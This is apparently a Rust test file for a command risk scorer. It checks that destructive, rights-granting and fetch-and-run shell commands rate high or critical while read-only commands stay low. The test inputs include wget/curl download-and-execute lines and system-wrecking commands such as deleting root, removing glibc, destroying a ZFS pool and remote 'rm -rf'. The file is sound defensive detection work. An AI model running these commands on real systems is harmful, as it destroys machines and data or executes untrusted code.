//! One or a few verbs of many programs that destroy, hand out rights or take secrets, and uses of
//! the same programs that only look.
#![allow(clippy::unwrap_used, clippy::panic)]

use expacti_engine::{Assessment, Context, Level, assess};

fn score(line: &str) -> Assessment {
    assess(line.as_bytes(), &Context::default())
}

/// One use a line.
const RISKY: &str = include_str!("data/families.txt");

/// What only looks must not become noise.
const LOOKS: &[&str] = &[
    "airflow dags list",
    "aws ec2 describe-volumes --volume-ids v",
    "aws s3 ls s3://b",
    "az vm list -g g",
    "borg list repo",
    "btrfs filesystem df /mnt",
    "consul members",
    "docker ps --all --no-trunc",
    "dracut --list-modules",
    "efibootmgr",
    "etcdctl member list",
    "gcloud compute images list",
    "gh pr list",
    "git diff --stat",
    "grubby --info=ALL",
    "helm list -A",
    "heroku ps -a a",
    "ip -br addr show",
    "kmod list",
    "kubectl get deploy -A",
    "nginx -t",
    "nmcli device status",
    "nomad job status j",
    "npm outdated",
    "parted /dev/sda print",
    "pm2 list",
    "redis-cli info memory",
    "restic snapshots",
    "route -n",
    "systemctl list-units --failed",
    "tailscale status",
    "terraform plan",
    "tool list things",
    "vault status",
    "virsh list",
    "wp plugin list",
    "zpool status",
    "find / -name mysql -print",
];

#[test]
fn verbs_that_destroy_or_give_away_are_high() {
    let low: Vec<String> = RISKY
        .lines()
        .map(score)
        .filter(|found| found.level < Level::High)
        .map(|found| format!("{} {}", found.score, found.command))
        .collect();
    assert!(low.is_empty(), "{low:#?}");
}

#[test]
fn the_same_programs_may_be_looked_at() {
    let high: Vec<String> = LOOKS
        .iter()
        .map(|line| score(line))
        .filter(|found| found.level >= Level::High)
        .map(|found| format!("{} {}", found.score, found.command))
        .collect();
    assert!(high.is_empty(), "{high:#?}");
}

#[test]
fn a_program_nobody_described_is_taken_at_its_word() {
    let plain = score("frobnicate list");
    assert_eq!(plain.score, 20);
    for line in ["frobnicate destroy everything", "frobnicate db purge", "./ctl delete-all"] {
        assert!(score(line).level >= Level::High, "{line}");
    }
    for line in ["frobnicate remove x", "frobnicate --delete x", "frobnicate stop"] {
        assert!(score(line).level >= Level::Medium, "{line}");
        assert!(score(line).score > plain.score, "{line}");
    }
}

#[test]
fn what_is_fetched_and_run_in_one_line_is_critical() {
    for line in [
        "wget https://host.example/a.sh && sh a.sh",
        "curl -o /tmp/a https://host.example/b; chmod +x /tmp/a; /tmp/a",
        "curl https://host.example/a > a.py; python3 a.py",
    ] {
        let found = score(line);
        assert!(found.terms.iter().any(|t| t.name == "pipe_to_interpreter"), "{found:?}");
        assert!(found.level >= Level::High, "{found:?}");
    }
    let other = score("curl -o a.json https://host.example/a.json; sh build.sh");
    assert!(!other.terms.iter().any(|t| t.name == "pipe_to_interpreter"), "{other:?}");
}

#[test]
fn what_takes_a_machine_or_all_data_with_it_is_critical() {
    for line in [
        "parted -s /dev/vdz mklabel gpt",
        "chmod 000 /usr",
        "mv ~ /dev/null",
        "kill -9 1",
        "kubectl delete namespaces --all",
        "kubectl delete deploy --all --all-namespaces",
        "userdel -r root",
        "passwd -l root",
        "rpm -e --nodeps glibc",
        "pacman -Rdd glibc",
        "dpkg --purge --force-all dpkg",
        "zpool destroy -f tank",
        "cd /etc && find . -delete",
        "ssh -p 2222 host.example 'sudo rm -rf /var/*'",
    ] {
        let found = score(line);
        assert_eq!(found.level, Level::Critical, "{found:?}");
    }
    for line in ["kill -9 1234", "userdel bob", "rpm -e nano", "mv a /dev/null"] {
        let found = score(line);
        assert!(found.level < Level::Critical, "{found:?}");
    }
}
